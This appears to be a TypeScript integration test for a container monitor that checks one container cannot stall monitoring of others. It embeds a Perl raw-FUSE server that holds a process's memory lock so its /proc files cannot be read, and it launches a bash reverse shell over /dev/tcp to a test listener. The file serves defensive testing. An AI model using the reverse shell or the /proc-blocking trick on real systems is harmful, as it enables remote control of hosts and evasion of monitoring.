// Goal: a container that keeps the kernel from answering about one of its processes holds up nobody else: coid answers,
// other sessions are watched, and that something cannot be read is told.
// Method: servers of the raw FUSE protocol in Perl, which is in every image, with a process that waits for them while it
// holds the lock of its memory; and a reader of its own as the control, which has to be killed.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { test } from 'node:test';
import { Allowance, atOnce } from '../../src/host/allowance.ts';
import { abortConnection, connectionsOf, withControl } from '../../src/host/fuse.ts';
import { loadLibc } from '../../src/host/libc.ts';
import { defaultSettings } from '../../src/monitor/settings.ts';
import { pace } from '../bed/pace.ts';
import { type CoidBed, coidBed } from '../incus/coid-bed.ts';
import { attacker } from './attacker.ts';
import { untilAudited } from './audited.ts';

const limit = { timeout: 180_000 };
const watched = (pauseOnHigh: boolean) => ({
  'user.coi.monitor': JSON.stringify({ ...defaultSettings, pauseOnHigh }),
});

/** Serves one file; `victim` runs in a child, `held` answers what that child then waits for. */
const server = (victim: string, held: string) => `
use strict;
use Fcntl;
$^F = 100;
$| = 1;
open(my $fuse, '+<', '/dev/fuse') or die "fuse: $!";
mkdir '/mnt/f';
my $options = 'fd=' . fileno($fuse) . ',rootmode=40000,user_id=0,group_id=0';
system('mount', '-i', '-t', 'fuse', '-o', $options, 'none', '/mnt/f') == 0 or die 'mount';
sub attr { pack('Q6 L10', 2, 4096, 8, 0, 0, 0, 0, 0, 0, shift, 1, 0, 0, 0, 4096, 0) }
sub answer {
  my ($unique, $error, $body) = @_;
  syswrite($fuse, pack('L l Q', 16 + length $body, $error, $unique) . $body) or die "answer: $!";
}
my ($child, $reads) = (0, 0);
while (sysread($fuse, my $request, 1 << 20)) {
  my ($length, $opcode, $unique, $node) = unpack('L L Q Q', $request);
  if ($opcode == 26) {
    answer($unique, 0, pack('L6', 7, 12, 0, 0, 0, 4096));
    $child = fork();
    if ($child == 0) { open(my $file, '<', '/mnt/f/x') or die "open: $!"; ${victim} exit 0 }
  }
  elsif ($opcode == 1) { answer($unique, 0, pack('Q4 L2', 2, 1, 1000, 1000, 0, 0) . attr(0100644)) }
  elsif ($opcode == 3) { answer($unique, 0, pack('Q L2', 1000, 0, 0) . attr($node == 1 ? 040755 : 0100644)) }
  elsif ($opcode == 14) { answer($unique, 0, pack('Q L2', 1, 0, 0)) }
  ${held}
  elsif ($opcode != 2 && $opcode != 36 && $opcode != 42) { answer($unique, -38, '') }
}
`;

const ways = {
  // A page whose first read fails is read again with the lock held. A writer that waits for the lock keeps readers out.
  memory: {
    file: 'cmdline',
    script: server(
      "my $at = syscall(9, 0, 4096, 1, 2, fileno($file), 0); unpack('P4', pack('Q', $at));",
      String.raw`elsif ($opcode == 15) {
    if ($reads++ == 0) { answer($unique, -5, '') }
    else {
      if (fork() == 0) { open(my $refs, '>', "/proc/$child/clear_refs") or die "refs: $!"; syswrite($refs, '1'); exit 0 }
      print "$child\n";
    }
  }`,
    ),
  },
} as const;

for (const [lock, { file, script }] of Object.entries(ways)) {
  test(
    `a process that waits for its container with the lock of its ${lock} held delays no other session`,
    limit,
    async () => {
      await using bed = await coidBed();
      const one = await bed.session({ config: watched(false) });
      const other = await bed.session({ config: watched(true) });
      for (const { container } of [one, other])
        await untilAudited(bed.coid, container, ({ action }) => action === 'watch-started');
      await using held = await hold(bed, one, script);
      assert.equal(await isRead(held.pid, file), false, 'the control');
      const slowestMs = await slowestAnswer(bed);
      assert.ok(slowestMs < 1000 * (await pace()), `${Math.round(slowestMs)} ms`);
      await using remote = await attacker();
      const shell = `bash -c "bash -i >& /dev/tcp/${other.nic.gateway}/${remote.port} 0>&1"`;
      const paused = bed.lifecycle.until('instance-paused', other.container);
      await bed.sh(other.container, `setsid sh -c '${shell}' >/dev/null 2>&1 </dev/null &`);
      await paused;
      await untilAudited(bed.coid, one.container, ({ description }) =>
        /keeps coid from reading command lines/.test(description),
      );
    },
  );
}

interface Held extends AsyncDisposable {
  /** On the host, of a process that waits. */
  readonly pid: number;
}

async function hold(
  { incus, sh }: CoidBed,
  { container, idmapBase }: { readonly container: string; readonly idmapBase: number },
  script: string,
): Promise<Held> {
  await sh(
    container,
    `cat > /root/server.pl <<'end'\n${script}\nend\nsetsid perl /root/server.pl </dev/null >/root/said 2>&1 &`,
    'root',
  );
  const said = await sh(
    container,
    'until grep -q . /root/said; do sleep 0.1; done; cat /root/said',
    'root',
  );
  const inner = Number(said.stdout.toString());
  assert.ok(inner > 0, said.stdout.toString());
  const status = await sh(container, `cat /proc/${inner}/status`, 'root');
  assert.equal(status.status, 0);
  const { pid: init } = await incus.instanceState(container);
  const pid = await hostPid(init, inner);
  const libc = await loadLibc();
  return {
    pid,
    // Nothing else ends them, and so the container.
    [Symbol.asyncDispose]: () =>
      withControl(libc, async (control) => {
        const ids = { first: idmapBase, count: 65_536 };
        for (const one of atOnce(connectionsOf([init], ids, control, new Allowance())))
          abortConnection(control, one);
      }),
  };
}

/** The host's number of a process that is the given one in the pid namespace of that init. */
async function hostPid(init: number, inner: number): Promise<number> {
  const { readdir, readFile, readlink } = await import('node:fs/promises');
  const namespace = await readlink(`/proc/${init}/ns/pid`);
  for (const name of await readdir('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    const own = await readlink(`/proc/${name}/ns/pid`).catch(() => '');
    const status = own === namespace ? await readFile(`/proc/${name}/status`, 'utf8') : '';
    if (new RegExp(`^NSpid:.*\\t${inner}$`, 'm').test(status)) return Number(name);
  }
  throw new Error(`no process ${inner} below ${init}`);
}

/** Whether a reader gets to the end of it within two seconds. */
function isRead(pid: number, file: string): Promise<boolean> {
  return new Promise((resolve) => {
    const cat = spawn('cat', [`/proc/${pid}/${file}`], { stdio: 'ignore' });
    const limitMs = setTimeout(() => {
      cat.kill('SIGKILL');
      resolve(false);
    }, 2000);
    cat.on('exit', () => {
      clearTimeout(limitMs);
      resolve(true);
    });
  });
}

/** Over some looks at both sessions. */
async function slowestAnswer({ coid }: CoidBed): Promise<number> {
  let slowestMs = 0;
  const endMs = performance.now() + 6000;
  while (performance.now() < endMs) {
    const startedMs = performance.now();
    await coid.status();
    slowestMs = Math.max(slowestMs, performance.now() - startedMs);
  }
  return slowestMs;
}
